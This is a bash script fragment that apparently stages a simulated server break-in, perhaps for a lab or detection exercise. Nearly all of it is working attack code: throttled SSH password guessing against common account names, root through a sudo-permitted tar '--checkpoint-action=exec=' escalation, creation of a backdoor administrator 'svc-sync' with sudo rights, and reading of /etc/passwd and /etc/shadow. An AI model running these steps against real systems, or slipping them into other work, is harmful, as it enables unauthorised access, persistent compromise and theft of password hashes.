# The break-in: guessing, success, refused sudo, root by way of an allowed tar, a new administrator. Sourced by inside.sh.

# One connection that tries up to three passwords, as a guessing program does.
guess() {
  local user=$1 list
  list=$(mktemp -p "$work")
  printf '%s\n' "$(secret)" "$(secret)" "$(secret)" >"$list"
  GUESSES=$list SSH_ASKPASS=$work/askpass SSH_ASKPASS_REQUIRE=force timeout 40 \
    ssh "${ssh_options[@]}" -b "$attacker_ip" -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=3 "$user@$site_ip" true </dev/null >/dev/null 2>&1 || true
  rm -f "$list"
}

# Gives the next line of $GUESSES at each call.
make_askpass() {
  cat >"$work/askpass" <<'SCRIPT'
#!/bin/sh
head -n 1 "$GUESSES"
sed -i 1d "$GUESSES"
SCRIPT
  chmod 0755 "$work/askpass"
}

guess_passwords() {
  make_askpass
  local users=(root root root admin root alice root bob test carol oracle dave erin postgres git backup)
  local round user running=0
  for ((round = 0; round < duration / 40; round++)); do
    for user in "${users[@]}"; do
      guess "$user" &
      guesses[running % 7]=$!
      running=$((running + 1))
      # Seven at a time: below the limit at which sshd begins to drop connections.
      [ -n "${guesses[running % 7]:-}" ] && wait "${guesses[running % 7]}"
    done
  done
  wait "${guesses[@]}"
}

guesses=()

break_in() {
  local known=${password[backup]}
  local exploit='--checkpoint=1 --checkpoint-action=exec='
  as_password backup "$known" "$attacker_ip" 'id; uname -a; cat /etc/passwd; w'
  # What the account may do, and what it may not.
  as_password backup "$known" "$attacker_ip" "echo '$known' | sudo -S -p '' -l"
  as_password backup "$known" "$attacker_ip" "echo '$known' | sudo -S -p '' /bin/bash"
  as_password backup "$known" "$attacker_ip" "echo '$known' | sudo -S -p '' /usr/bin/cat /etc/shadow"
  as_password backup "$known" "$attacker_ip" "printf 'toor\nroot\nadmin\n' | sudo -S -p '' /usr/bin/passwd root"
  as_password backup "$known" "$attacker_ip" "echo 'toor' | su root -c id"
  # It may run tar as root, and tar runs anything.
  as_password backup "$known" "$attacker_ip" "sudo -n /usr/bin/tar -cf /dev/null /var/backups/last-run ${exploit}'id'"
  password[svc-sync]=$(secret)
  as_password backup "$known" "$attacker_ip" "sudo -n /usr/bin/tar -cf /dev/null /var/backups/last-run ${exploit}'useradd -m -s /bin/bash svc-sync'"
  as_password backup "$known" "$attacker_ip" "sudo -n /usr/bin/tar -cf /dev/null /var/backups/last-run ${exploit}'usermod -aG sudo svc-sync'"
  as_password backup "$known" "$attacker_ip" \
    "echo 'svc-sync:${password[svc-sync]}' >/tmp/.s-$$; sudo -n /usr/bin/tar -cf /dev/null /var/backups/last-run ${exploit}'sh -c \"chpasswd </tmp/.s-$$\"'; rm /tmp/.s-$$"
  # The new administrator.
  as_password svc-sync "${password[svc-sync]}" "$attacker_ip" "echo '${password[svc-sync]}' | sudo -S -p '' /usr/bin/id"
  as_password svc-sync "${password[svc-sync]}" "$attacker_ip" "echo '${password[svc-sync]}' | sudo -S -p '' /usr/bin/cat /etc/shadow"
}
